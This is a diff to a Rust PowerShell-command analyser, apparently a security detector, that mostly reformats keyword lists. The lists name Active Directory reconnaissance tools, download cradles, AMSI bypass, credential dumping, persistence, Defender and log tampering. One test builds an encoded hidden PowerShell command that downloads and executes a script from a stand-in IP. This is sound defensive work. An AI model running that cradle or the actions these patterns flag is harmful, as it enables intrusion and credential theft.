@@ -38,9 +38,25 @@ static SWITCHES: &[(&str, &[&str], bool)] = &[
 
 /// Functions of tools that map a directory.
 static RECON: &[&str] = &[
-    "invoke-bloodhound", "sharphound", "get-netuser", "get-netgroup", "get-netcomputer", "get-netdomain", "get-domainuser", "get-domaincomputer",
-    "get-domaingroup", "get-domaincontroller", "get-domaintrust", "invoke-userhunter", "find-localadminaccess", "get-netlocalgroup", "get-netsession",
-    "invoke-sharefinder", "get-objectacl", "get-domainobjectacl", "powerview",
+    "invoke-bloodhound",
+    "sharphound",
+    "get-netuser",
+    "get-netgroup",
+    "get-netcomputer",
+    "get-netdomain",
+    "get-domainuser",
+    "get-domaincomputer",
+    "get-domaingroup",
+    "get-domaincontroller",
+    "get-domaintrust",
+    "invoke-userhunter",
+    "find-localadminaccess",
+    "get-netlocalgroup",
+    "get-netsession",
+    "invoke-sharefinder",
+    "get-objectacl",
+    "get-domainobjectacl",
+    "powerview",
 ];
 
 /// What a command says.
@@ -117,11 +133,36 @@ pub fn is_script(name: Option<&str>, text: &str, is_page: bool) -> bool {
     }
     let lower = text.get(..start).unwrap_or_default().to_ascii_lowercase();
     let signs = [
-        "invoke-expression", "iex(", "iex (", "| iex", "|iex", "new-object ", "[system.", "frombase64string", "downloadstring", "downloadfile",
-        "set-executionpolicy", "write-host ", "write-output ", "get-childitem", "start-process ", "invoke-webrequest", "$env:", "param(", "[convert]::",
-        "-erroraction", "cmdletbinding", "import-module", "add-type ", "get-wmiobject", "mppreference", "[ref].assembly", "foreach-object", "where-object",
+        "invoke-expression",
+        "iex(",
+        "iex (",
+        "| iex",
+        "|iex",
+        "new-object ",
+        "[system.",
+        "frombase64string",
+        "downloadstring",
+        "downloadfile",
+        "set-executionpolicy",
+        "write-host ",
+        "write-output ",
+        "get-childitem",
+        "start-process ",
+        "invoke-webrequest",
+        "$env:",
+        "param(",
+        "[convert]::",
+        "-erroraction",
+        "cmdletbinding",
+        "import-module",
+        "add-type ",
+        "get-wmiobject",
+        "mppreference",
+        "[ref].assembly",
+        "foreach-object",
+        "where-object",
     ];
-    let score = signs.iter().filter(|sign| lower.contains(**sign)).count() + usize::from(assigns(&lower)) ;
+    let score = signs.iter().filter(|sign| lower.contains(**sign)).count() + usize::from(assigns(&lower));
     score >= 3
 }
 
@@ -325,7 +366,18 @@ fn indicators(plain: &str, text: &str) -> Vec<&'static str> {
     };
     tell(any(&["iex ", "iex(", "|iex", "| iex", "invoke-expression"]), "iex");
     tell(
-        any(&["downloadstring", "downloadfile", "downloaddata", "invoke-webrequest", "invoke-restmethod", "iwr ", "irm ", "net.webclient", "start-bitstransfer", "openread("]),
+        any(&[
+            "downloadstring",
+            "downloadfile",
+            "downloaddata",
+            "invoke-webrequest",
+            "invoke-restmethod",
+            "iwr ",
+            "irm ",
+            "net.webclient",
+            "start-bitstransfer",
+            "openread(",
+        ]),
         "download_cradle",
     );
     tell(any(&["amsiinitfailed", "amsiutils", "amsiscanbuffer"]), "amsi_bypass");
@@ -335,21 +387,33 @@ fn indicators(plain: &str, text: &str) -> Vec<&'static str> {
         any(&["mimikatz", "sekurlsa", "invoke-kerberoast", "dumpcreds", "lsadump", "out-minidump"])
             || any(&["lsass"]) && any(&["minidump", "procdump", "comsvcs"])
             || any(&["hklm\\sam", "hklm:\\sam", "ntds.dit"]) && any(&["save", "copy"])
-            || any(&["get-credential", "promptforcredential"]) && any(&["uploadstring", "invoke-webrequest", "invoke-restmethod", "networkcredential"]),
+            || any(&["get-credential", "promptforcredential"])
+                && any(&["uploadstring", "invoke-webrequest", "invoke-restmethod", "networkcredential"]),
         "credential_access",
     );
     tell(count(RECON) >= 1 || plain.matches("get-ad").count() >= 3, "ad_recon");
     tell(
-        any(&["register-scheduledtask", "new-scheduledtask", "schtasks /create", "schtasks.exe /create", "__eventfilter", "commandlineeventconsumer", "register-wmievent"])
-            || any(&["currentversion\\run"]) && any(&["new-itemproperty", "set-itemproperty", "reg add"])
+        any(&[
+            "register-scheduledtask",
+            "new-scheduledtask",
+            "schtasks /create",
+            "schtasks.exe /create",
+            "__eventfilter",
+            "commandlineeventconsumer",
+            "register-wmievent",
+        ]) || any(&["currentversion\\run"]) && any(&["new-itemproperty", "set-itemproperty", "reg add"])
             || any(&["$profile"]) && any(&["add-content", "set-content", "out-file"]),
         "persistence",
     );
-    tell(any(&["set-mppreference -disable", "set-mppreference -exclusion", "add-mppreference -exclusion", "disablerealtimemonitoring"]), "defender_tamper");
+    tell(
+        any(&["set-mppreference -disable", "set-mppreference -exclusion", "add-mppreference -exclusion", "disablerealtimemonitoring"]),
+        "defender_tamper",
+    );
     tell(is_obscured(text), "obfuscated_syntax");
     tell(any(&["clear-eventlog", "wevtutil cl", "wevtutil.exe cl", "remove-eventlog", "enablescriptblocklogging"]), "log_tamper");
     tell(
-        any(&["enter-pssession", "new-pssession"]) || any(&["invoke-command", "invoke-wmimethod", "invoke-cimmethod", "icm "]) && any(&["-computername", "-cn ", "-session"]),
+        any(&["enter-pssession", "new-pssession"])
+            || any(&["invoke-command", "invoke-wmimethod", "invoke-cimmethod", "icm "]) && any(&["-computername", "-cn ", "-session"]),
         "remote_execution",
     );
     found
@@ -363,7 +427,12 @@ fn is_obscured(text: &str) -> bool {
     let lower = text.to_ascii_lowercase();
     let pieces = lower.matches("{0}{1}").count() + lower.matches("'+'").count() + lower.matches("\"+\"").count();
     let numbers = lower.matches("[char]").count();
-    (ticks >= 4 && ticks * 20 >= letters) || (lower.contains("-f") && lower.contains("{1}{0}")) || pieces >= 8 || numbers >= 5 || lower.contains("[array]::reverse") || lower.contains("-join $") && lower.contains("[-1..-")
+    (ticks >= 4 && ticks * 20 >= letters)
+        || (lower.contains("-f") && lower.contains("{1}{0}"))
+        || pieces >= 8
+        || numbers >= 5
+        || lower.contains("[array]::reverse")
+        || lower.contains("-join $") && lower.contains("[-1..-")
 }
 
 /// Hosts that the command names.
@@ -371,7 +440,8 @@ fn hosts(text: &str, urls: &[String]) -> Vec<String> {
     let mut found: Vec<String> = Vec::new();
     let mut add = |host: &str| {
         let host = host.trim_matches(['"', '\'', ',', ';', ')', '}']);
-        if !host.is_empty() && !host.starts_with(['$', '(', '-']) && host.len() <= 253 && found.len() < 32 && !found.iter().any(|known| known == host) {
+        if !host.is_empty() && !host.starts_with(['$', '(', '-']) && host.len() <= 253 && found.len() < 32 && !found.iter().any(|known| known == host)
+        {
             found.push(host.to_owned());
         }
     };
@@ -456,7 +526,8 @@ mod tests {
 
     #[test]
     fn encoded_commands_are_undone() {
-        let told = judge(&format!("powershell -nop -w hidden -enc {}", wide("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")));
+        let told =
+            judge(&format!("powershell -nop -w hidden -enc {}", wide("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')")));
         assert_eq!(told.chain, ["base64", "utf16le"]);
         assert_eq!(told.flags, ["NoProfile", "WindowStyle:Hidden", "EncodedCommand"]);
         assert_eq!(told.indicators, ["iex", "download_cradle"]);
